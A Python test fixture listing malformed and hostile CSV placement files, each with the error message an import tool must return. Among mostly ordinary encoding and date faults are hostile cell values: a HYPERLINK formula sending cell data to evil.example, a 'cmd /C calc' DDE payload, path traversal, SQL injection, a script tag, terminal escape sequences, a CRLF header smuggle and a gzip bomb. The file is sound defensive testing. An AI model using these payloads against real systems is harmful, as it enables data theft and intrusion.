"""Files of placements that are faulty or meant to do harm, each with the sentence that it must get."""

# What is told of a file is easier to compare on one line.
# ruff: noqa: E501, RUF001

import gzip
import io
import zipfile
from dataclasses import dataclass

from tests.acceptance.command_line import PLACEMENT, as_csv

HEADER, ROW = as_csv([PLACEMENT]).splitlines()
AS_UTF_8 = (
    'Save it again as "CSV UTF-8" (in Swedish Excel: "CSV UTF-8 (kommaavgränsad)"; in LibreOffice: character '
    "set Unicode (UTF-8))."
)
BY_HAND = "Write the cell again by hand, without line breaks or tabs."
CASE_NUMBER_REMEDY = "Use letters, digits, hyphen and slash, at most 32 of them."
NUMBER_REMEDY = "Write it as YYYYMMDD-NNNN and compare it with the register, or write unknown."


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, and everything that is told of it."""

    name: str
    content: bytes
    #: Where and what, fault by fault; COLUMNS stands for the list of all columns.
    told: tuple[tuple[str, str], ...]


def row(**cells: str) -> str:
    """Return a file of one placement with some cells changed."""
    return as_csv([{**PLACEMENT, **cells}])


def rows(*several: dict[str, str]) -> str:
    """Return a file of placements, each with some cells changed."""
    return as_csv([{**PLACEMENT, "previous_case_number": "", **cells} for cells in several])


def a_zip() -> bytes:
    """Return an archive, as an Excel workbook is one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def a_bomb() -> bytes:
    """Return a small file that would be large if anybody unpacked it."""
    return gzip.compress(b"0" * 20_000_000, mtime=0)


def hostile(name: str, content: str | bytes, *told: tuple[str, str]) -> Hostile:
    """Put a file together."""
    return Hostile(name, content if isinstance(content, bytes) else content.encode(), told)


# fmt: off
FILES = (
    hostile(
        'nothing at all', "",
        ('', 'The file is empty. Begin it with a row of column names.'),
    ),
    hostile(
        'only a byte order mark', b"\xef\xbb\xbf",
        ('', 'The file is empty. Begin it with a row of column names.'),
    ),
    hostile(
        'only line ends', "\n\r\n\n",
        ('', 'The file is empty. Begin it with a row of column names.'),
    ),
    hostile(
        'only blanks and separators', " , ; ,\n",
        ('row 1', 'Column 1 has no name. Name it or remove it.'),
        ('row 1', 'Column 3 has no name. Name it or remove it.'),
        ('row 1', 'There is no column ";". Remove it, or use one of: COLUMNS.'),
        ('row 1, column case_number', 'The column case_number is missing. Add it; every row needs it.'),
        ('row 1, column personal_number', 'The column personal_number is missing. Add it; every row needs it.'),
        ('row 1, column home_municipality', 'The column home_municipality is missing. Add it; every row needs it.'),
        ('row 1, column placement_type', 'The column placement_type is missing. Add it; every row needs it.'),
        ('row 1, column legal_basis', 'The column legal_basis is missing. Add it; every row needs it.'),
    ),
    hostile(
        'a workbook called CSV', a_zip(),
        ('', f'The file is an Excel workbook or a zip archive, and no CSV file in UTF-8. {AS_UTF_8}'),
    ),
    hostile(
        'an old workbook called CSV', b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
        ('', f'The file is an old Excel workbook, and no CSV file in UTF-8. {AS_UTF_8}'),
    ),
    hostile(
        'a compressed bomb', a_bomb(),
        ('', f'The file is a gzip archive, and no CSV file in UTF-8. {AS_UTF_8}'),
    ),
    hostile(
        'a PDF called CSV', b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        ('', f'The file is a PDF, and no CSV file in UTF-8. {AS_UTF_8}'),
    ),
    hostile(
        'UTF-16, little end first', row().encode("utf-16"),
        ('', f'The file is text in UTF-16, and no CSV file in UTF-8. {AS_UTF_8}'),
    ),
    hostile(
        'UTF-16, big end first', b"\xfe\xff" + row().encode("utf-16-be"),
        ('', f'The file is text in UTF-16, and no CSV file in UTF-8. {AS_UTF_8}'),
    ),
    hostile(
        'Latin-1', row(pupil_name="Åsa Öst").encode("latin-1"),
        ('row 2', f'The file is not UTF-8: byte 0xC5 at position 252 cannot be read. {AS_UTF_8}'),
    ),
    hostile(
        'UTF-7', row(case_number="+AMU-1"),
        ('row 2, column case_number', f'"+AMU-1" is not a case number. {CASE_NUMBER_REMEDY}'),
    ),
    hostile(
        'a byte order mark twice', b"\xef\xbb\xbf\xef\xbb\xbf" + row().encode(),
        ('row 1', 'There is no column "?case_number". Remove it, or use one of: COLUMNS.'),
        ('row 1, column case_number', 'The column case_number is missing. Add it; every row needs it.'),
    ),
    hostile(
        'a byte order mark in a cell', row(case_number="\ufeffSN-1"),
        ('row 2, column case_number', f'The cell holds a sign that cannot be seen (U+FEFF). {BY_HAND}'),
    ),
    hostile(
        'NUL in the header', "case\0_number" + row().removeprefix("case_number"),
        ('row 1', 'There is no column "case?_number". Remove it, or use one of: COLUMNS.'),
        ('row 1, column case_number', 'The column case_number is missing. Add it; every row needs it.'),
    ),
    hostile(
        'NUL in a cell', row(case_number="SN\0-1"),
        ('row 2, column case_number', f'The cell holds a sign that cannot be seen (U+0000). {BY_HAND}'),
    ),
    hostile(
        'overlong UTF-8', row().encode().replace(b"SN-", b"SN\xc0\xaf"),
        ('row 2', f'The file is not UTF-8: byte 0xC0 at position 156 cannot be read. {AS_UTF_8}'),
    ),
    hostile(
        'half a character', row().encode() + b"\xc3",
        ('row 3', f'The file is not UTF-8: byte 0xC3 at position 241 cannot be read. {AS_UTF_8}'),
    ),
    hostile(
        'a lone surrogate', row().encode().replace(b"SN-", b"\xed\xa0\x80"),
        ('row 2', f'The file is not UTF-8: byte 0xED at position 154 cannot be read. {AS_UTF_8}'),
    ),
    hostile(
        'an unclosed quotation mark', f'{HEADER}\n"{ROW}\n',
        ('row 2', 'The quotation marks do not fit together, so the file cannot be read from here on. Close every quoted cell, and write a quotation mark inside one twice: "".'),
    ),
    hostile(
        'text after a closing quotation mark', f'{HEADER}\n"SN-1"x{ROW[9:]}\n',
        ('row 2', 'The quotation marks do not fit together, so the file cannot be read from here on. Close every quoted cell, and write a quotation mark inside one twice: "".'),
    ),
    hostile(
        'quotation marks in the header', row().replace("case_number", '"case_""number"'),
        ('row 1', 'There is no column "case_"number". Remove it, or use one of: COLUMNS.'),
        ('row 1, column case_number', 'The column case_number is missing. Add it; every row needs it.'),
    ),
    hostile(
        'tabs instead of commas', row().replace(",", "\t"),
        ('row 1', 'There is no column "case_number?personal_number?home_municip…". Remove it, or use one of: COLUMNS.'),
        ('row 1, column case_number', 'The column case_number is missing. Add it; every row needs it.'),
        ('row 1, column personal_number', 'The column personal_number is missing. Add it; every row needs it.'),
        ('row 1, column home_municipality', 'The column home_municipality is missing. Add it; every row needs it.'),
        ('row 1, column placement_type', 'The column placement_type is missing. Add it; every row needs it.'),
        ('row 1, column legal_basis', 'The column legal_basis is missing. Add it; every row needs it.'),
    ),
    hostile(
        'a separator too many', f"{HEADER}\n{ROW};\n{ROW},\n",
        ('row 2, column admitted_on', '"2026-10-05;" is not a date. Write year, month and day, such as 2026-11-02.'),
        ('row 3', 'The header has 10 columns, but the row has 11. Put a cell that holds the separator within quotation marks, or add the cells that lack.'),
    ),
    hostile(
        'a row too short', f"{HEADER}\nSN-1,unknown\n",
        ('row 2', 'The header has 10 columns, but the row has 2. Put a cell that holds the separator within quotation marks, or add the cells that lack.'),
    ),
    hostile(
        'a line end in a cell', row(case_number="SN-1\r\nBcc: all@example.se"),
        ('row 2, column case_number', f'The cell holds a sign that cannot be seen (U+000D). {BY_HAND}'),
    ),
    hostile(
        'a column twice', f"{HEADER},case_number\n{ROW},SN-2\n",
        ('row 1, column case_number', 'The column case_number stands twice. Keep one of them.'),
    ),
    hostile(
        'a column without a name', f"{HEADER},\n{ROW},\n",
        ('row 1', 'Column 11 has no name. Name it or remove it.'),
    ),
    hostile(
        'an unknown column', f"{HEADER},diagnosis\n{ROW},x\n",
        ('row 1', 'There is no column "diagnosis". Remove it, or use one of: COLUMNS.'),
    ),
    hostile(
        'many unknown columns', f"{HEADER},a,b,__class__\n",
        ('row 1', 'There are no columns "a", "b", "__class__". Remove them, or use some of: COLUMNS.'),
    ),
    hostile(
        'required columns left out', "case_number,pupil_name,admitted_on,applied_on\n",
        ('row 1, column personal_number', 'The column personal_number is missing. Add it; every row needs it.'),
        ('row 1, column home_municipality', 'The column home_municipality is missing. Add it; every row needs it.'),
        ('row 1, column placement_type', 'The column placement_type is missing. Add it; every row needs it.'),
        ('row 1, column legal_basis', 'The column legal_basis is missing. Add it; every row needs it.'),
    ),
    hostile(
        'the columns of another file', "organisation_code,role,name,email\n",
        ('row 1', 'These are the columns of seats.csv. Import it with `sisam import seats FILE`.'),
    ),
    hostile(
        'the same column four times', HEADER + ",admitted_on" * 3 + "\n",
        ('row 1, column admitted_on', 'The column admitted_on stands twice. Keep one of them.'),
        ('row 1, column admitted_on', 'The column admitted_on stands twice. Keep one of them.'),
        ('row 1, column admitted_on', 'The column admitted_on stands twice. Keep one of them.'),
    ),
    hostile(
        'two hundred columns', ",".join([HEADER, *(f"x{n}" for n in range(190))]) + "\n",
        ('row 1', 'There are no columns "x0", "x1", "x2", "x3", "x4", "x5", "x6", "x7", "x8", "x9" and 180 more. Remove them, or use some of: COLUMNS.'),
    ),
    hostile(
        'a cell of 10,001 characters', row(pupil_name="a" * 10_001),
        ('row 2, column pupil_name', 'The cell holds 10,001 characters; 10,000 are the most. Shorten it.'),
    ),
    hostile(
        'a cell that makes patterns slow', row(case_number="a" * 9_999 + "!"),
        ('row 2, column case_number', f'"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa…" is not a case number. {CASE_NUMBER_REMEDY}'),
    ),
    hostile(
        'digits that make patterns slow', row(personal_number="2" * 9_999),
        ('row 2, column personal_number', f'This is not a personal or coordination number. {NUMBER_REMEDY}'),
    ),
    hostile(
        'a formula as a name', row(pupil_name='=HYPERLINK("https://evil.example/?"&A1;"Kim")'),
        ('row 2, column pupil_name', 'The name begins with "=", as a formula does. Write the name alone.'),
    ),
    hostile(
        'a command as a name', row(pupil_name="@SUM(1+1)*cmd|' /C calc'!A0"),
        ('row 2, column pupil_name', 'The name begins with "@", as a formula does. Write the name alone.'),
    ),
    hostile(
        'an escape sequence', row(case_number="\x1b]0;owned\x07\x1b[31mSN-1"),
        ('row 2, column case_number', f'The cell holds a sign that cannot be seen (U+001B). {BY_HAND}'),
    ),
    hostile(
        'an escape sequence that C1 begins', row(home_school_code="\x9b31moak"),
        ('row 2, column home_school_code', f'The cell holds a sign that cannot be seen (U+009B). {BY_HAND}'),
    ),
    hostile(
        'an escape sequence in the header', f"{HEADER},\x1b[2J\n",
        ('row 1', 'There is no column "?[2J". Remove it, or use one of: COLUMNS.'),
    ),
    hostile(
        'writing from right to left', row(case_number="SN-\u202e1/6202"),
        ('row 2, column case_number', f'The cell holds a sign that cannot be seen (U+202E). {BY_HAND}'),
    ),
    hostile(
        'a space that has no width', row(home_school_code="oa\u200bk"),
        ('row 2, column home_school_code', f'The cell holds a sign that cannot be seen (U+200B). {BY_HAND}'),
    ),
    hostile(
        'letters of another alphabet', row(home_school_code="о\u0430k", case_number="\u0405N-1"),
        ('row 2, column case_number', f'"ЅN-1" is not a case number. {CASE_NUMBER_REMEDY}'),
        ('row 2, column home_school_code', 'There is no organisation with the code "оаk". Correct the code, or import the organisation first.'),
    ),
    hostile(
        'digits of another alphabet', row(personal_number="\u0662\u0660\u0661\u0661\u0660\u0663\u0661\u0665-2383"),
        ('row 2, column personal_number', f'This is not a personal or coordination number. {NUMBER_REMEDY}'),
    ),
    hostile(
        'a way to a file as a case number', row(case_number="../../etc/passwd"),
        ('row 2, column case_number', f'"../../etc/passwd" is not a case number. {CASE_NUMBER_REMEDY}'),
    ),
    hostile(
        'SQL as a case number', row(case_number="x'; DROP TABLE case;--"),
        ('row 2, column case_number', f'"x\'; DROP TABLE case;--" is not a case number. {CASE_NUMBER_REMEDY}'),
    ),
    hostile(
        'SQL as a code', row(home_school_code="oak' OR '1'='1"),
        ('row 2, column home_school_code', 'There is no organisation with the code "oak\' OR \'1\'=\'1". Correct the code, or import the organisation first.'),
    ),
    hostile(
        'a template as a code', row(home_school_code="{organisation.__class__}"),
        ('row 2, column home_school_code', 'There is no organisation with the code "{organisation.__class__}". Correct the code, or import the organisation first.'),
    ),
    hostile(
        'markup as a code', row(home_school_code="<script>alert(1)</script>"),
        ('row 2, column home_school_code', 'There is no organisation with the code "<script>alert(1)</script>". Correct the code, or import the organisation first.'),
    ),
    hostile(
        'a case number of 33 characters', row(case_number="S" * 33),
        ('row 2, column case_number', f'"SSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSS" is not a case number. {CASE_NUMBER_REMEDY}'),
    ),
    hostile(
        "the pupil's number as a case number", row(case_number="20110315-2383"),
        ('row 2, column case_number', "The case number is the pupil's own number. Give the case a number that tells nothing of the pupil."),
    ),
    hostile(
        'a day that does not exist', row(admitted_on="2026-02-30"),
        ('row 2, column admitted_on', 'There is no such day as 2026-02-30. Write a day that the calendar has.'),
    ),
    hostile(
        'a thirteenth month', row(admitted_on="20261302"),
        ('row 2, column admitted_on', '"20261302" is not a date. Write year, month and day, such as 2026-11-02.'),
    ),
    hostile(
        'the year 10000', row(admitted_on="10000-01-01"),
        ('row 2, column admitted_on', '"10000-01-01" is not a date. Write year, month and day, such as 2026-11-02.'),
    ),
    hostile(
        'the year 1', row(admitted_on="0001-01-01"),
        ('row 2, column admitted_on', '0001-01-01 lies outside the calendar, 2020-01-01 to 2050-12-31. Correct the year.'),
        ('row 2, column admitted_on', '0001-01-01 lies before the birth date in personal_number. Correct the date or the number.'),
    ),
    hostile(
        'the day of another calendar', row(admitted_on="2126-10-05"),
        ('row 2, column admitted_on', '2126-10-05 lies outside the calendar, 2020-01-01 to 2050-12-31. Correct the year.'),
    ),
    hostile(
        'an admission to come', row(admitted_on="2026-11-03"),
        ('row 2, column admitted_on', '2026-11-03 lies in the future; today is 2026-11-02. Leave the cell empty until it has happened.'),
    ),
    hostile(
        'a discharge before the admission', row(discharged_on="2026-10-01"),
        ('row 2, column discharged_on', 'discharged_on 2026-10-01 lies before admitted_on 2026-10-05. Correct one of the two dates.'),
    ),
    hostile(
        'a wrong check digit', row(personal_number="20110315-2384"),
        ('row 2, column personal_number', f'The check digit of the personal or coordination number is wrong. {NUMBER_REMEDY}'),
    ),
    hostile(
        'a birth date that does not exist', row(personal_number="20110231-2387"),
        ('row 2, column personal_number', f'The check digit of the personal or coordination number is wrong. {NUMBER_REMEDY}'),
    ),
    hostile(
        'somebody not born yet', row(personal_number="20291231-2390"),
        ('row 2, column personal_number', 'The birth date in it lies in the future; today is 2026-11-02. Compare the number with the register, or write unknown.'),
        ('row 2, column investigation_opened_on', '2026-09-07 lies before the birth date in personal_number. Correct the date or the number.'),
        ('row 2, column applied_on', '2026-09-21 lies before the birth date in personal_number. Correct the date or the number.'),
        ('row 2, column admitted_on', '2026-10-05 lies before the birth date in personal_number. Correct the date or the number.'),
    ),
    hostile(
        'a number without its century', row(personal_number="110315-2383"),
        ('row 2, column personal_number', f'This is not a personal or coordination number. {NUMBER_REMEDY}'),
    ),
    hostile(
        'a wrong coordination number', row(personal_number="20110375-2384"),
        ('row 2, column personal_number', f'The check digit of the personal or coordination number is wrong. {NUMBER_REMEDY}'),
    ),
    hostile(
        'a case number twice', rows({}, {}),
        ('row 3, column case_number', '"SN-2026/1" stands in row 2 too. Keep one of the rows, or correct the value.'),
    ),
    hostile(
        'one number of two names', rows({"pupil_name": "Kim Ek"}, {"case_number": "SN-2", "pupil_name": "Robin Ask"}),
        ('row 3, column pupil_name', 'Row 2 gives the same personal number to somebody of another name. Write the name in the same way, or correct one of the numbers.'),
    ),
    hostile(
        'cases that follow on each other', rows({"case_number": "A", "previous_case_number": "B"}, {"case_number": "B", "previous_case_number": "A"}),
        ('row 2, column previous_case_number', 'The case "A" would come before itself. Correct the numbers, so that the chain of cases has a beginning.'),
        ('row 3, column previous_case_number', 'The case "B" would come before itself. Correct the numbers, so that the chain of cases has a beginning.'),
    ),
    hostile(
        'a case that follows on itself', rows({"case_number": "A", "previous_case_number": "A"}),
        ('row 2, column previous_case_number', 'The case "A" would come before itself. Correct the numbers, so that the chain of cases has a beginning.'),
    ),
    hostile(
        'a case that follows on nothing', rows({"previous_case_number": "SN-0"}),
        ('row 2, column previous_case_number', 'There is no case "SN-0". Correct the number, add that placement to the file, or leave the cell empty.'),
    ),
    hostile(
        'an unknown organisation', row(home_school_code="elm"),
        ('row 2, column home_school_code', 'There is no organisation with the code "elm". Correct the code, or import the organisation first.'),
    ),
    hostile(
        'an organisation of the wrong kind', row(home_school_code="social", youth_home_code="oak"),
        ('row 2, column home_school_code', 'The organisation "social" is of the kind social_services. Write the code of an organisation of the kind school.'),
        ('row 2, column youth_home_code', 'The organisation "oak" is of the kind school. Write the code of an organisation of the kind youth_home.'),
    ),
    hostile(
        'a word that is none', row(placement_type="ACUTE", legal_basis="lvu_9"),
        ('row 2, column placement_type', '"ACUTE" is not a known word here. Write one of: acute, assessment, treatment.'),
        ('row 2, column legal_basis', '"lvu_9" is not a known word here. Write one of: lvu_2, lvu_3, lvu_2_3, lvu_6, sol, lsu.'),
    ),
    hostile(
        'an unknown municipality', row(home_municipality="180"),
        ('row 2, column home_municipality', 'There is no municipality "180". Write its code with four digits, leading zero included, such as 0180.'),
    ),
    hostile(
        'everything wrong at once', row(case_number="?", personal_number="x", home_municipality="x", placement_type="", legal_basis="", admitted_on="x"),
        ('row 2, column case_number', f'"?" is not a case number. {CASE_NUMBER_REMEDY}'),
        ('row 2, column personal_number', f'This is not a personal or coordination number. {NUMBER_REMEDY}'),
        ('row 2, column home_municipality', 'There is no municipality "x". Write its code with four digits, leading zero included, such as 0180.'),
        ('row 2, column placement_type', 'The cell is empty. Fill it in; no row may lack its placement_type.'),
        ('row 2, column legal_basis', 'The cell is empty. Fill it in; no row may lack its legal_basis.'),
        ('row 2, column admitted_on', '"x" is not a date. Write year, month and day, such as 2026-11-02.'),
    ),
)
# fmt: on
